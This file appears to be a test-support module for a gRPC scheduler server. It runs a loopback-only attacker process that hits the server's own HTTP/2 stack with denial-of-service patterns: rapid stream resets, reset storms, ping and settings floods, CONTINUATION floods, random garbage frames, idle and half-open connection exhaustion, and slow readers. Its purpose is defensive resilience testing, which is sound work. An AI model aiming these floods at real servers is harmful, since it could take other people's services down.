"""One attacker as a process of its own: `python -m tests.support.attacker KIND PORT SECONDS`. It speaks to loopback alone and ends by itself: after so
many seconds, or when its standard input does.

It prints one line of JSON: how many connections it made, how often it was cut off, and how much it sent.
"""

import contextlib
import json
import os
import random
import resource
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator

from scheduler._pb.dapr.proto.scheduler.v1 import scheduler_pb2 as pb
from scheduler.http2 import frames
from scheduler.http2.grpc import frame_message
from scheduler.http2.headers import encode_block

HELLO = frames.PREFACE + frames.settings({})
SERVICE = "/dapr.proto.scheduler.v1.Scheduler"
SLOW_APP = "slow"


def block(method: str) -> bytes:
    path = f"{SERVICE}/{method}"
    return encode_block(
        [(":method", "POST"), (":scheme", "http"), (":path", path), ("content-type", "application/grpc")]
    )


def headers(method: str, stream_id: int, flags: int = frames.END_HEADERS) -> bytes:
    head = block(method)
    return frames.head(len(head), frames.HEADERS, flags, stream_id) + head


def message(stream_id: int, content: bytes, flags: int = 0) -> bytes:
    body = frame_message(content)
    return frames.head(len(body), frames.DATA, flags, stream_id) + body


def watch(stream_id: int, app_id: str) -> bytes:
    initial = pb.WatchJobsRequest(initial=pb.WatchJobsRequestInitial(app_id=app_id, namespace="default"))
    return headers("WatchJobs", stream_id) + message(stream_id, initial.SerializeToString())


class Attack:
    """Connections that are made again whenever the victim cuts them."""

    def __init__(self, port: int, seconds: float) -> None:
        self.port = port
        self.end = time.monotonic() + seconds
        self.connections = self.cut = self.sent_bytes = 0
        self.open: list[socket.socket] = []

    @property
    def on(self) -> bool:
        return time.monotonic() < self.end

    def end_with_input(self) -> None:
        sys.stdin.read()
        self.end = 0.0

    def connect(self, hello: bytes = HELLO) -> socket.socket:
        one = socket.create_connection(("127.0.0.1", self.port), timeout=5)
        self.connections += 1
        self.open.append(one)
        one.sendall(hello)
        return one

    def flood(
        self, chunks: Callable[[], Iterator[bytes]], *, hello: bytes = HELLO, every_s: float = 0.0, times: int = 1 << 30
    ) -> None:
        """Send as fast as it goes (or a chunk every so often), read what comes back and throw it away."""
        while self.on and times > 0:
            times -= 1
            try:
                with self.connect(hello) as one:
                    for chunk in chunks():
                        one.sendall(chunk)
                        self.sent_bytes += len(chunk)
                        one.setblocking(False)
                        with contextlib.suppress(BlockingIOError):
                            while data := one.recv(1 << 20):
                                pass
                            if not data:
                                raise ConnectionError("cut")
                        one.settimeout(1)
                        if not self.on:
                            return
                        if every_s:
                            time.sleep(every_s)
            except OSError:
                self.cut += 1
            self.open.clear()

    def hold(self) -> None:
        """Keep what is open until the end."""
        while self.on:
            time.sleep(0.05)
        self.cut = sum(one.recv(1 << 20, socket.MSG_DONTWAIT) == b"" for one in self.open if _readable(one))


def _readable(one: socket.socket) -> bool:
    try:
        one.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    except OSError:
        return False
    return True


def stream_ids() -> Iterator[int]:
    return iter(range(1, 1 << 31, 2))


def rapid_reset(attack: Attack) -> None:
    def chunks() -> Iterator[bytes]:
        ids = stream_ids()
        while True:
            numbers = [next(ids) for _ in range(100)]
            yield b"".join(watch(number, "reset") + frames.rst_stream(number, 8) for number in numbers)

    attack.flood(chunks)


def reset_storm(attack: Attack) -> None:
    """As many resets as are allowed, for as long as it likes: streams that were attached, and calls that are under way."""

    def chunks() -> Iterator[bytes]:
        ids = stream_ids()
        request = pb.GetJobRequest(name="none", metadata=pb.JobMetadata(app_id="reset", namespace="default"))
        while True:
            numbers = [next(ids) for _ in range(20)]
            opened = [
                watch(number, "reset")
                if number % 4 == 1
                else headers("GetJob", number) + message(number, request.SerializeToString(), frames.END_STREAM)
                for number in numbers
            ]
            yield b"".join(opened)
            yield b"".join(frames.rst_stream(number, 8) for number in numbers)

    attack.flood(chunks, every_s=0.015)


def control_frames(attack: Attack) -> None:
    def chunks() -> Iterator[bytes]:
        while True:
            yield (frames.ping(b"pingping") * 50 + frames.settings({frames.INITIAL_WINDOW_SIZE: 70_000})) * 20

    attack.flood(chunks)


def continuations(attack: Attack) -> None:
    def chunks() -> Iterator[bytes]:
        yield headers("GetJob", 1, flags=0)
        while True:
            yield frames.head(0, frames.CONTINUATION, 0, 1) * 1_000

    attack.flood(chunks)


def garbage(attack: Attack) -> None:
    rng = random.Random(7)

    def chunks() -> Iterator[bytes]:
        while True:
            kind, flags, size = rng.randrange(12), rng.randrange(256), rng.randrange(64)
            yield frames.head(size, kind, flags, rng.randrange(9)) + rng.randbytes(size)
            yield rng.randbytes(rng.randrange(1, 500))

    while attack.on:
        hello = rng.choice(
            [HELLO, frames.PREFACE, rng.randbytes(100), b"GET / HTTP/1.1\r\n\r\n", b"\x16\x03\x01\x02\x00\x01"]
        )
        attack.flood(chunks, hello=hello, times=10)


def idle_connections(attack: Attack) -> None:
    for _ in range(2_000):
        attack.connect()
    attack.hold()


def half_open(attack: Attack) -> None:
    for number in range(100):
        attack.connect(frames.PREFACE[: number % len(frames.PREFACE)])
    attack.hold()


def slow_readers(attack: Attack) -> None:
    """Ten streams over two connections, all windows wide open, and not a byte read."""
    wide = (
        frames.PREFACE + frames.settings({frames.INITIAL_WINDOW_SIZE: (1 << 31) - 1}) + frames.window_update(0, 1 << 30)
    )
    for _ in range(2):
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
        one.connect(("127.0.0.1", attack.port))
        attack.connections += 1
        attack.open.append(one)
        one.sendall(wide + b"".join(watch(number * 2 + 1, SLOW_APP) for number in range(5)))
    attack.hold()


ATTACKS = {
    work.__name__: work
    for work in (
        rapid_reset,
        reset_storm,
        control_frames,
        continuations,
        garbage,
        idle_connections,
        half_open,
        slow_readers,
    )
}


def main() -> None:
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    # A real attacker would not share the victim's two cores.
    os.nice(15)
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    attack = Attack(port, seconds)
    threading.Thread(target=attack.end_with_input, daemon=True).start()
    ATTACKS[kind](attack)
    print(json.dumps({"connections": attack.connections, "cut": attack.cut, "sent_bytes": attack.sent_bytes}))


if __name__ == "__main__":
    main()
